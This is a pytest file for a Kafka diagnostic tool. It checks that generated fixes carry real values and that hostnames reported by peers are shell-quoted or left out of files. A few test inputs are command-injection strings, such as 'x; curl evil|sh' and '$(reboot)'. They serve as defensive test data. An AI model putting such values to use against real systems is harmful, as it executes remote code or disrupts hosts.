"""Every fix carries real values, and what a peer says never becomes part of a command."""

from __future__ import annotations

import re
import shlex
from itertools import chain

import pytest

from kdiag.config.security import Security
from kdiag.config.settings import Endpoint
from kdiag.rules import acls, remedies
from kdiag.rules.advertising import advertise, advertised, better, with_its_own_port
from kdiag.rules.client import ClientSystem
from kdiag.rules.platform import Platform
from kdiag.rules.rule import Remedy
from tests import walks
from tests.facts import DOOR, at, contact, listener
from tests.report.render import cases

LINUX = ClientSystem("linux")
# What nobody but the reader can know; everything else must be filled in.
ASKED_FOR = re.compile(
    r"<(reachable address of broker \d+|port of broker \d+|container name|this client|user|password"
    r"|name|administrator\.properties|subject of the certificate|the CA's certificate\.pem"
    r"|cluster|token|the CA's certificates\.pem|certificate and key\.pem|certificate\.pem"
    r"|key\.pem|your public address|bootstrap|current version|target group"
    r"|what leads to your network|a free number, before those that deny|your other entries)>"
)
EMPTY = re.compile(r"=\s*$|(Host|Port):\s*$|(?i:advertised)\S*//:", re.MULTILINE)
PROVEN = tuple(
    listener(
        node, f"10.0.1.1{node}:9094", "timeout", candidates=(contact(f"{door}:9094", node=node),)
    )
    for node, door in ((1, DOOR), (2, "3.10.139.222"), (3, "3.10.139.223"))
)


def every_remedy() -> list[tuple[str, Remedy]]:
    """All fixes of all findings that the scenarios and the cases by hand lead to."""
    by_hand = {name: make() for name, make in cases.BY_HAND.items()}
    reports = chain(walks.scenarios().items(), by_hand.items())
    return [
        (f"{name} {finding.code}", remedy)
        for name, report in reports
        for finding in report.findings
        for remedy in finding.remedies
    ]


def test_every_value_is_filled_in() -> None:
    made = every_remedy()
    assert len(made) > 50
    for where, remedy in made:
        text = f"{remedy.summary}\n{remedy.snippet}"
        assert "None" not in text, where
        assert not EMPTY.search(remedy.snippet), where
        left_open = ASKED_FOR.sub("", text)
        assert not re.search(r"<[^>]*>|\{\w*\}|TODO", left_open), (where, left_open)
        assert remedy.summary.rstrip(":.")
        assert remedy.summary[-1] in ".:", (where, remedy.summary)
        assert remedy.snippet or remedy.kind == "text", where


def test_every_finding_has_a_fix() -> None:
    for name, report in walks.scenarios().items():
        for finding in report.findings:
            assert finding.remedies, (name, finding.code)


def test_proven_addresses_are_advertised() -> None:
    first, second = advertise(PROVEN, Platform())
    assert first.summary.startswith("In server.properties, advertise these addresses ")
    assert "each broker answered there" in first.summary
    assert first.snippet.splitlines() == [
        "# broker 1",
        "advertised.listeners=<your other entries>,EXTERNAL://3.10.139.221:9094",
        "# broker 2",
        "advertised.listeners=<your other entries>,EXTERNAL://3.10.139.222:9094",
        "# broker 3",
        "advertised.listeners=<your other entries>,EXTERNAL://3.10.139.223:9094",
    ]
    assert second.kind == "yaml"
    assert second.snippet.count("advertisedHost: 3.10.139.22") == 3
    assert "advertisedPort" not in second.snippet  # it stays as it is


def test_what_is_not_proven_is_asked_for_and_not_claimed() -> None:
    unproven = listener(4, "10.0.1.14:9094", "timeout")
    first, second = advertise((PROVEN[0], unproven), Platform())
    assert "answered" not in first.summary
    assert "EXTERNAL://3.10.139.221:9094" in first.snippet
    assert "EXTERNAL://<reachable address of broker 4>:9094" in first.snippet
    assert 'advertisedHost: "<reachable address of broker 4>"' in second.snippet


@pytest.mark.parametrize("port", [0, -1, 70000])
def test_a_port_that_is_none_is_asked_for(port: int) -> None:
    assert better(listener(1, f"0.0.0.0:{port}")) == (
        "<reachable address of broker 1>:<port of broker 1>"
    )


def test_an_ipv6_address_keeps_its_brackets_where_they_belong() -> None:
    met = listener(
        1, "[fd12::1]:9094", "timeout", candidates=(contact("[2001:db8::1]:9094", node=1),)
    )
    properties, strimzi = advertise((met,), Platform())
    assert "EXTERNAL://[2001:db8::1]:9094" in properties.snippet
    assert 'advertisedHost: "2001:db8::1"' in strimzi.snippet
    assert with_its_own_port(met) == "[fd12::1]:<port of broker 1>"


def test_the_hosts_file_takes_proven_addresses_of_plain_names_only() -> None:
    def met(name: str, door: str = f"{DOOR}:9094", node: int = 1) -> Remedy | None:
        beside = (contact(door, node=node),)
        found = listener(1, f"{name}:9094", "dns:not_found", candidates=beside)
        return next(iter(remedies.hosts_file((found,), LINUX)), None)

    proven = met("broker-1.kafka.svc")
    assert proven
    assert proven.snippet == f"{DOOR}  broker-1.kafka.svc"
    assert met("broker-1.kafka.svc", node=2) is None
    assert met("broker-1.kafka.svc", door=f"{DOOR}:32001") is None  # a hosts file moves no port
    assert met("broker-1 bank.example.com") is None
    assert met("broker-1#") is None


@pytest.mark.parametrize("build", [remedies.check_name, remedies.check_resolver])
def test_a_name_from_a_peer_is_one_word_of_a_command(build: object) -> None:
    assert callable(build)
    assert build("kafka.example.com", LINUX).snippet == "getent ahosts kafka.example.com"
    assert build("x; curl evil|sh", LINUX).snippet == "getent ahosts 'x; curl evil|sh'"
    assert build("$(reboot)", LINUX).snippet == "getent ahosts '$(reboot)'"


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("203.0.113.10", "Allow TCP from 203.0.113.10 to "),
        ("192.168.1.5", "Allow TCP from 192.168.1.5 (or its public address after NAT) to "),
        ("127.0.0.1", "Allow TCP from this client to "),
        ("", "Allow TCP from this client to "),
    ],
)
def test_who_is_to_be_let_through(source: str, said: str) -> None:
    assert remedies.open_port([at(f"{DOOR}:9094")], source).summary.startswith(said)


def test_many_ports_are_counted() -> None:
    many = [Endpoint(DOOR, port) for port in range(32001, 32021)]
    said = remedies.open_port(many, "").summary
    assert f"{DOOR}:32006 and 14 more: in the security group" in said
    assert "32007" not in said


@pytest.mark.parametrize(
    "host", ["$(reboot)", "x; reboot", "x # y", "x\\u000ay", '"x', "- x", "a b"]
)
def test_a_name_from_a_peer_is_copied_into_no_file_and_one_word_of_a_command(host: str) -> None:
    met = listener(1, f"{host}:9094", "timeout")
    address = f"<reachable address of broker 1>:{met.broker.advertised.port}"
    assert advertised(met) == address
    assert host not in with_its_own_port(met)
    for strimzi in (True, False):
        made, *_ = remedies.certificate_names([host], (), strimzi)
        assert host not in made.snippet
        assert "<the name that clients dial>" in made.snippet
    _, *_, compare = remedies.trust(met.broker.advertised, "", False, False, LINUX)
    server = str(met.broker.advertised)
    server = "<endpoint>" if server.startswith("-") else server
    assert shlex.split(compare.snippet)[3] == server
    for fix in (
        acls.allow_writing(met.broker.advertised, "orders", Security("SASL_SSL")),
        remedies.credentials("SCRAM-SHA-256", "bob", "", met.broker.advertised),
    ):
        assert server.replace("endpoint", "server") in shlex.split(fix.snippet)


def test_a_plain_name_or_address_stays_as_it_is() -> None:
    for host in ("kafka-1.example.com", "10.0.1.11", "[fd12::1]", "broker_1"):
        met = listener(1, f"{host}:9094", "timeout")
        assert advertised(met) == f"{host}:9094"


def test_offsets_are_set_for_the_partitions_that_have_lost_theirs_alone() -> None:
    (finding,) = walks.scenarios()["offset-out-of-range"].findings
    assert finding.subjects == ["partition orders-1"]
    assert finding.remedies[0].snippet.endswith(" --group billing --topic orders:1")
